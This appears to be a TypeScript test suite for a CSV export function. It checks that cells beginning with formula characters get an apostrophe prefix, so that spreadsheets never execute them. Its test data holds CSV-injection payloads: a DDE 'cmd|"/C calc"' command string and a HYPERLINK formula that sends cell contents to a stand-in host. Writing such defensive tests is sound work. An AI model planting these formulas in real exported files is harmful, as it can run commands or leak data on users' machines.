import { csvOf } from '~/domain/csv';
import { record } from './record';

/** What a spreadsheet takes for a formula, or what hides one. */
const beginnings = ['=', '+', '-', '@', '\t', '\r', '\n', '\0'];
/** What may follow, with everything in it that the format itself has a meaning for. */
const bodies = [
  'cmd|"/C calc"!A0',
  'HYPERLINK("http://x.example/?"&A1,"Open")',
  '1,2,3',
  'SUM(A1:A9)\r\n=1+1',
  ' 1 ',
  '\0=1',
];
const cases = beginnings.flatMap((beginning) => bodies.map((body) => beginning + body));

/** The cells of the one row of a file, as RFC 4180 reads them. */
function cellsIn(file: string): string[] {
  const text = file.replace(/^\uFEFF/, '').replace(/\r\n$/, '');
  const cells = [''];
  let isQuoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const sign = text.charAt(at);
    const isDoubled = isQuoted && sign === '"' && text.charAt(at + 1) === '"';
    if (isDoubled) at += 1;
    if (sign === '"' && !isDoubled) isQuoted = !isQuoted;
    else if (sign === ',' && !isQuoted) cells.push('');
    else cells[cells.length - 1] += sign;
  }
  return cells;
}

/** Whether a spreadsheet would run it: what it strips before it looks is stripped here too. */
const runs = (cell: string): boolean => /^[\s\0]*[=+\-@]/.test(cell) || /^[\t\r\n\0]/.test(cell);

it.each(cases)('S4 a spreadsheet that opens %j reads it, and runs nothing', (text) => {
  const [before, cell, after, ...more] = cellsIn(csvOf([['Ann', text, 'Bob']]));
  expect({ before, after, more }).toEqual({ before: 'Ann', after: 'Bob', more: [] });
  expect(cell).toBe(`'${text.replaceAll('\0', '')}`);
});

it('S4 counts the cells that a spreadsheet would run', () => {
  expect(cases.filter(runs)).toHaveLength(cases.length);
  const run = cases.filter((text) => runs(cellsIn(csvOf([[text]]))[0] ?? ''));
  record('S4', 'cells', { figure: `${run.length} of ${cases.length}`, isKept: run.length === 0 });
  expect(run).toEqual([]);
});
